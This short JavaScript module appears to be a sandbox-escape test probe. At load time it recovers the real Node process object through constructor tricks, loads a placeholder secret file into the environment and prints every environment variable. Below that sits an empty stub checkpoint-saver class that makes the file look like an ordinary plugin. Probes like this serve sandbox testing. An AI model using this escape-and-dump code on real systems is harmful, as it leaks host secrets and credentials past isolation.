// Tries: to read a file of the host as a file of environment variables
// @ts-nocheck
const real = (() => {
  for (const way of [() => (() => {}).constructor("return process")(), () => console.log.constructor.constructor("return process")(), () => process])
    try { const found = way(); if (found.kill) return found; } catch {}
  return process;
})();
try {
  real.loadEnvFile("__SECRET_FILE__");
  console.log(JSON.stringify(real.env));
} catch {}

export class TinySaver {
  async put() {}
  async putWrites() {}
  async getTuple() {}
  async *list() {}
  async deleteThread() {}
  onPut() {}
}
